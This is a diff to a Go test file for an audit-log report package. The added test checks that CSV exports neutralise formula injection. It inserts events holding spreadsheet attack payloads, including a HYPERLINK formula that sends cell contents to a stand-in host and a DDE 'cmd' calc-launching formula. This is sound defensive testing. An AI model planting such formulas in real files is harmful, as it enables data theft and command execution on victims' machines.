@@ -3,6 +3,7 @@ package report
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"path/filepath"
@@ -142,5 +143,39 @@ func TestGenerateUserLogsKeepsTheRange(t *testing.T) {
 	want := []string{fmt.Sprint(t0.Add(12 * 13 * time.Minute).Unix()), fmt.Sprint(t0.Add(9 * 13 * time.Minute).Unix()), fmt.Sprint(t0.Add(6 * 13 * time.Minute).Unix())}
 	if strings.Join(dates, ",") != strings.Join(want, ",") {
 		t.Errorf("logDates %v, want %v (newest first, inside the range)", dates, want)
+	}
+}
+
+// TestCSVReportsHoldNoFormulas: the UserAccess and Users reports apply the
+// formula rule of spec/API.md 3.3 to client-chosen cells, read back with
+// encoding/csv, like the endpoints that share the encoder.
+func TestCSVReportsHoldNoFormulas(t *testing.T) {
+	st, err := sqlite.New(context.Background(), filepath.Join(t.TempDir(), "audit.db"), store.Options{TokenKey: []byte("report-test-token-key-0123456789")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer st.Close()
+	evil := []store.Event{
+		{ID: `=HYPERLINK("http://x/?"&A1)`, Category: store.CategoryAccess, Message: "+1", EntityID: "@SUM(A1)"},
+		{ID: "-2", Category: store.CategoryUser, Message: "=cmd|' /C calc'!A0", EntityID: "\tx"},
+	}
+	for i := range evil {
+		e := &evil[i]
+		e.Time, e.Namespace, e.User, e.Status = t0.Add(time.Duration(i)*time.Second), "team-a", "mallory", store.StatusSuccess
+	}
+	if _, err := st.Insert(context.Background(), evil); err != nil {
+		t.Fatal(err)
+	}
+	rg := store.TimeRange{From: t0, To: t0.Add(time.Hour)}
+	for typ, e := range map[reportsv1alpha1.ReportType]store.Event{reportsv1alpha1.UserAccess: evil[0], reportsv1alpha1.Users: evil[1]} {
+		got, _ := collect(t, st, Params{Type: typ, Namespace: "team-a", Range: rg, PageSize: 10}, Cursor{}, 0)
+		recs, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("%s: %d records, %v:\n%s", typ, len(recs), err, got)
+		}
+		r := recs[1]
+		if r[0] != "'"+e.ID || r[2] != "'"+e.EntityID || r[5] != "'"+e.Message {
+			t.Errorf("%s: cells %q: want id, entity and message with a leading apostrophe", typ, r)
+		}
 	}
 }
